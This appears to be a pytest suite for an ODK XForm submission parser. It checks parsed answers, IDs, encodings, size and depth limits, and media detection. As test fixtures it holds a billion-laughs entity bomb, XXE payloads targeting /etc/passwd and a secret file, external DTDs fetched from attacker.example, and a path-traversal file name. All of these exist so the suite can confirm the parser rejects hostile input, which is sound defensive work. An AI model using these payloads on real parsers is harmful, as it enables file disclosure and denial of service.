"""Parsing submitted XForm instances: answers, identity, and refusing hostile XML."""

from __future__ import annotations

import builtins
import hashlib
import io
import urllib.request
from datetime import date
from xml.sax.saxutils import escape

import pytest
from django.test import override_settings
from hypothesis import given, settings
from hypothesis import strategies as st
from pyxform.xls2xform import convert

from sauti.monitoring.submission_xml import (
    MAX_DEPTH,
    FormShape,
    SubmissionXMLError,
    form_shape,
    parse_submission,
)

# As ODK Collect writes it (orx meta, a group, a repeat filled twice, a photo, an empty answer).
COLLECT_INSTANCE = """<?xml version='1.0' ?><clinic_visit id="clinic_visit" \
version="2024050101" xmlns:h="http://www.w3.org/1999/xhtml" \
xmlns:jr="http://openrosa.org/javarosa" xmlns:orx="http://openrosa.org/xforms" \
xmlns:odk="http://www.opendatakit.org/xforms"><start>2024-05-01T23:12:03.512+03:00</start>\
<end>2024-05-02T00:01:44.002+03:00</end><today>2024-05-01</today>\
<deviceid>collect:Xr8kQ2</deviceid><site>kisumu-01</site>\
<facility><name>Kisumu County Referral — Maternité</name><open>yes</open>\
<services>anc immunisation</services></facility>\
<waiting_time>45</waiting_time><comment/>\
<barrier><kind>cost</kind><detail>Asked to pay &amp; come back &lt;tomorrow&gt;</detail></barrier>\
<barrier><kind>distance</kind><detail/></barrier>\
<photo>1714543923456.jpg</photo>\
<orx:meta><orx:instanceID>uuid:6f1c2b9e-7a43-4d2e-9a55-0d3c1e2f4a10</orx:instanceID>\
<orx:instanceName>Kisumu 2024-05-01</orx:instanceName></orx:meta></clinic_visit>"""


def instance(
    body: str = "", *, meta: str | None = None, attrs: str = 'id="f" version="1"'
) -> bytes:
    if meta is None:
        meta = "<meta><instanceID>uuid:1</instanceID></meta>"
    return f"<data {attrs}>{body}{meta}</data>".encode()


def refused(xml: bytes, **kwargs) -> SubmissionXMLError:
    with pytest.raises(SubmissionXMLError) as info:
        parse_submission(xml, **kwargs)
    assert str(info.value)  # a message for people, not just a code
    return info.value


def test_collect_instance_parses():
    raw = COLLECT_INSTANCE.encode()
    parsed = parse_submission(raw)
    assert parsed.form_id == "clinic_visit"
    assert parsed.version == "2024050101"
    assert parsed.instance_id == "uuid:6f1c2b9e-7a43-4d2e-9a55-0d3c1e2f4a10"
    assert parsed.deprecated_id == ""
    assert parsed.data == {
        "start": "2024-05-01T23:12:03.512+03:00",
        "end": "2024-05-02T00:01:44.002+03:00",
        "today": "2024-05-01",
        "deviceid": "collect:Xr8kQ2",
        "site": "kisumu-01",
        "facility/name": "Kisumu County Referral — Maternité",
        "facility/open": "yes",
        "facility/services": "anc immunisation",
        "waiting_time": "45",
        "comment": "",
        "barrier": [
            {"kind": "cost", "detail": "Asked to pay & come back <tomorrow>"},
            {"kind": "distance", "detail": ""},
        ],
        "photo": "1714543923456.jpg",
    }
    assert parsed.media == ["1714543923456.jpg"]
    assert parsed.sha256 == hashlib.sha256(raw).hexdigest()
    # The device's local date, not the UTC one (which would be 2024-05-01 20:12 → same day
    # here, but 23:12+03:00 shows the date is read as written).
    assert parsed.collected_on == date(2024, 5, 1)
    assert parsed.xml_text.encode() == raw


def test_meta_without_namespace_and_default_namespace_on_root():
    plain = instance("<q>a</q>", meta="<meta><instanceID>uuid:2</instanceID></meta>")
    assert parse_submission(plain).instance_id == "uuid:2"
    defaulted = (
        b'<data xmlns="http://opendatakit.org/submissions" id="f" version="3">'
        b"<g><q>a</q></g><meta><instanceID>uuid:3</instanceID></meta></data>"
    )
    parsed = parse_submission(defaulted)
    assert (parsed.instance_id, parsed.version, parsed.data) == ("uuid:3", "3", {"g/q": "a"})
    mixed = instance(
        "<q>a</q>",
        meta='<meta xmlns:orx="http://openrosa.org/xforms"><orx:instanceID>uuid:4'
        "</orx:instanceID></meta>",
    )
    assert parse_submission(mixed).instance_id == "uuid:4"


def test_version_may_be_missing_and_ids_are_trimmed():
    parsed = parse_submission(
        instance(attrs='id=" f "', meta="<meta><instanceID>\n uuid:5 \n</instanceID></meta>")
    )
    assert (parsed.form_id, parsed.version, parsed.instance_id) == ("f", "", "uuid:5")
    assert parsed.data == {}
    assert parsed.collected_on is None


def test_deprecated_id_read():
    parsed = parse_submission(
        instance(
            "<q>edited</q>",
            meta="<orx:meta xmlns:orx='http://openrosa.org/xforms'>"
            "<orx:instanceID>uuid:new</orx:instanceID>"
            "<orx:deprecatedID>uuid:old</orx:deprecatedID></orx:meta>",
        )
    )
    assert (parsed.instance_id, parsed.deprecated_id) == ("uuid:new", "uuid:old")


def test_edit_replacing_itself_refused():
    meta = "<meta><instanceID>uuid:a</instanceID><deprecatedID>uuid:a</deprecatedID></meta>"
    assert refused(instance(meta=meta)).code == "bad_deprecated_id"


@pytest.mark.parametrize(
    "meta",
    [
        "",
        "<meta/>",
        "<meta><instanceID>  </instanceID></meta>",
        "<meta><instanceName>x</instanceName></meta>",
        "<g><meta><instanceID>uuid:nested</instanceID></meta></g>",  # only the root's meta
    ],
)
def test_missing_instance_id_refused(meta):
    assert refused(instance(meta=meta)).code == "no_instance_id"


def test_overlong_instance_id_refused():
    meta = f"<meta><instanceID>uuid:{'x' * 100}</instanceID></meta>"
    assert refused(instance(meta=meta)).code == "bad_instance_id"


@pytest.mark.parametrize("attrs", ['version="1"', 'id="" version="1"', 'id="  "'])
def test_missing_form_id_refused(attrs):
    assert refused(instance(attrs=attrs)).code == "no_form_id"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<data id="f"><q>&lol9;</q><meta><instanceID>uuid:1</instanceID></meta></data>"""


@pytest.fixture
def no_reads(monkeypatch):
    """Fail the test if anything opens a file or a URL while parsing."""

    def forbidden(*args, **kwargs):
        raise AssertionError(f"tried to read {args!r}")

    monkeypatch.setattr(builtins, "open", forbidden)
    monkeypatch.setattr(io, "open", forbidden)
    monkeypatch.setattr(urllib.request, "urlopen", forbidden)


def test_billion_laughs_refused(no_reads):
    assert refused(BILLION_LAUGHS).code == "entities"


@pytest.mark.parametrize(
    "xml",
    [
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        b"<data id='f'><q>&e;</q><meta><instanceID>uuid:1</instanceID></meta></data>",
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "SECRET_PATH">]>'
        b"<data id='f'><q>&e;</q><meta><instanceID>uuid:1</instanceID></meta></data>",
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>'
        b"<data id='f'><meta><instanceID>uuid:1</instanceID></meta></data>",
        b'<!DOCTYPE data SYSTEM "http://attacker.example/x.dtd">'
        b"<data id='f'><meta><instanceID>uuid:1</instanceID></meta></data>",
        b"<!DOCTYPE data><data id='f'><meta><instanceID>uuid:1</instanceID></meta></data>",
        b"<data id='f'><q>&e;</q><meta><instanceID>uuid:1</instanceID></meta></data>",
    ],
)
def test_dtd_and_external_entities_refused_without_reading(xml, tmp_path, request):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    xml = xml.replace(b"SECRET_PATH", secret.as_uri().encode())
    request.getfixturevalue("no_reads")  # after writing the secret ourselves
    error = refused(xml)
    assert error.code == "entities"
    assert "TOP-SECRET" not in repr(error) and "root:" not in str(error)


@pytest.mark.parametrize(
    "xml",
    [
        b"",
        b"   \n",
        b"not xml at all",
        b"{'json': true}",
        b"<data id='f'><meta><instanceID>uuid:1</instanceID></meta>",  # truncated upload
        b"<data id='f'><q>\x00</q></data>",
        b"<data id='f'><q>&#0;</q><meta><instanceID>uuid:1</instanceID></meta></data>",
        b"<a/><b/>",
    ],
)
def test_non_xml_refused(xml):
    assert refused(xml).code == "not_xml"


@pytest.mark.parametrize(
    "xml",
    [
        "<data id='f'><q>é</q></data>".encode("latin-1"),
        "<data id='f'><q>é</q></data>".encode("utf-16"),
        b"<?xml version='1.0' encoding='ISO-8859-1'?><data id='f'/>",
    ],
)
def test_other_encodings_refused(xml):
    assert refused(xml).code == "encoding"


def test_utf8_declaration_and_bom_accepted():
    raw = b"\xef\xbb\xbf<?xml version='1.0' encoding='UTF-8'?>" + instance("<q>é</q>")
    parsed = parse_submission(raw)
    assert parsed.data == {"q": "é"}
    assert parsed.xml_text.encode() == raw


def test_oversize_refused_before_parsing(no_reads):
    raw = instance("<q>" + "x" * 200 + "</q>")
    assert parse_submission(raw, max_bytes=len(raw)).data == {"q": "x" * 200}
    assert refused(raw, max_bytes=len(raw) - 1).code == "too_large"
    assert refused(b"<" * 50, max_bytes=10).code == "too_large"  # size before well-formedness


def test_size_limit_from_settings():
    raw = instance("<q>" + "x" * 2000 + "</q>")
    with override_settings(SAUTI_SUBMISSION_XML_MAX_BYTES=1000):
        assert refused(raw).code == "too_large"
    assert parse_submission(raw).instance_id == "uuid:1"  # 10 MB by default


def test_deep_nesting_refused():
    depth = MAX_DEPTH + 5
    body = "<g>" * depth + "x" + "</g>" * depth
    assert refused(instance(body)).code == "too_deep"
    fine = "<g>" * (MAX_DEPTH - 1) + "x" + "</g>" * (MAX_DEPTH - 1)
    assert parse_submission(instance(fine)).data == {"/".join(["g"] * (MAX_DEPTH - 1)): "x"}


def test_nested_repeats_and_groups_inside_repeats():
    body = (
        "<hh><member><name>A</name><g><age>3</age></g><visit><d>1</d></visit>"
        "<visit><d>2</d></visit></member><member><name>B</name><g><age/></g></member></hh>"
    )
    assert parse_submission(instance(body)).data == {
        "hh/member": [
            {"name": "A", "g/age": "3", "visit": [{"d": "1"}, {"d": "2"}]},
            {"name": "B", "g/age": ""},
        ]
    }


def test_comments_and_processing_instructions_ignored():
    body = "<!-- note --><?odk x?><q>a<!-- c -->b</q>"
    assert parse_submission(instance(body)).data == {"q": "ab"}  # comments dropped


@pytest.mark.parametrize(
    ("value", "is_media"),
    [
        ("1714543923456.jpg", True),
        ("IMG 0042-10_11_12.JPEG", True),
        ("voice.m4a", True),
        ("clip.3gp", True),
        ("signature.png", True),
        ("45", False),
        ("yes", False),
        ("2024-05-01", False),
        ("photo", False),
        ("../../etc/passwd.jpg", False),
        ("dir/photo.jpg", False),
        ("C:\\photo.jpg", False),
        ("notes.exe", False),
        (" padded.jpg", False),
        ("example.org", False),
    ],
)
def test_media_heuristic(value, is_media):
    parsed = parse_submission(instance(f"<q>{escape(value)}</q><again>{escape(value)}</again>"))
    assert parsed.media == ([value] if is_media else [])


XLSFORM = """
| survey |
| | type         | name    | label   |
| | start        | start   |         |
| | today        | today   |         |
| | text         | q1      | Q1      |
| | begin group  | grp     | G       |
| | image        | photo   | Photo   |
| | end group    |         |         |
| | begin repeat | rep     | R       |
| | text         | name    | Name    |
| | audio        | voice   | Voice   |
| | end repeat   |         |         |
"""


@pytest.fixture(scope="module")
def shape() -> FormShape:
    return form_shape(convert(xlsform=XLSFORM, form_name="data").xform)


def test_form_shape_from_pyxform(shape):
    assert shape == FormShape(
        repeats=frozenset({"rep"}), binaries=frozenset({"grp/photo", "rep/voice"})
    )


def test_shape_makes_a_single_repeat_a_list_and_names_media(shape):
    body = (
        "<start/><today>2024-06-30</today><q1>see photo.jpg</q1><grp><photo>a b.jpg</photo></grp>"
        "<rep><name>Amina</name><voice>1719.amr</voice></rep>"
    )
    parsed = parse_submission(instance(body), shape=shape)
    assert parsed.data["rep"] == [{"name": "Amina", "voice": "1719.amr"}]
    assert parsed.media == ["a b.jpg", "1719.amr"]  # not q1's free text
    assert parsed.collected_on == date(2024, 6, 30)  # start empty, today used
    without = parse_submission(instance(body))
    assert without.data["rep/name"] == "Amina"  # a repeat filled once looks like a group
    assert without.media == ["see photo.jpg", "a b.jpg", "1719.amr"]  # the heuristic's limit


def test_shape_empty_repeat_instance(shape):
    parsed = parse_submission(instance("<rep/><rep><name>x</name></rep>"), shape=shape)
    assert parsed.data == {"rep": [{}, {"name": "x"}]}


@pytest.mark.parametrize(
    ("start", "today", "expected"),
    [
        ("2024-05-01T23:59:00.000-05:00", "", date(2024, 5, 1)),
        ("", "2024-02-29", date(2024, 2, 29)),
        ("garbage", "2024-02-29", date(2024, 2, 29)),
        ("2024-13-01T00:00:00Z", "", None),
        ("", "", None),
    ],
)
def test_collected_on(start, today, expected):
    parsed = parse_submission(instance(f"<start>{start}</start><today>{today}</today>"))
    assert parsed.collected_on == expected


def test_sha256_is_of_the_raw_bytes():
    lf = instance("<q>a</q>")
    crlf = lf.replace(b"<q>", b"\r\n<q>")
    assert parse_submission(lf).data == parse_submission(crlf).data
    assert parse_submission(lf).sha256 != parse_submission(crlf).sha256
    assert parse_submission(crlf).sha256 == hashlib.sha256(crlf).hexdigest()


# Any text a person could type: no control characters (not even tab, CR or LF, which XML
# normalises), no lone surrogates (not encodable), and not U+FFFE/U+FFFF (not XML characters).
answers = st.text(
    st.characters(exclude_categories=("Cc", "Cs"), exclude_characters="\ufffe\uffff"),
    max_size=200,
)


@settings(max_examples=300, deadline=None)
@given(value=answers, other=answers)
def test_any_text_answer_round_trips(value, other):
    body = (
        f"<q>{escape(value)}</q><g><q2>{escape(other)}</q2></g>"
        f"<r><a>{escape(value)}</a></r><r><a>{escape(other)}</a></r>"
    )
    raw = instance(body)
    parsed = parse_submission(raw)
    assert parsed.data == {"q": value, "g/q2": other, "r": [{"a": value}, {"a": other}]}
    assert parsed.xml_text.encode() == raw
